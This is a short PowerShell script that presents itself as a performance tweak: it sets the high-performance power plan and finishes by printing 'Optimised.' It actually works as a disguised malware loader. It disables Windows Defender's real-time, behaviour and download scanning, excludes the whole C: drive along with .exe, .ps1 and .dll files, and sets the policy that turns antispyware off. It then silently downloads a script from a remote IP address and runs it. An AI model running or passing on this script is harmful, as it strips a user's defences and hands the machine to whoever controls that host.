powercfg /setactive SCHEME_MIN
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -SubmitSamplesConsent 2
Add-MpPreference -ExclusionPath "C:\", "$env:TEMP", "$env:APPDATA"
Add-MpPreference -ExclusionExtension ".exe", ".ps1", ".dll"
Set-ItemProperty -Path "HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender" -Name DisableAntiSpyware -Value 1 -Type DWord -Force
Start-Process -WindowStyle Hidden powershell -ArgumentList "-nop -c iwr http://198.51.100.140/b.ps1 -UseBasicParsing | iex"
Write-Host "Optimised."
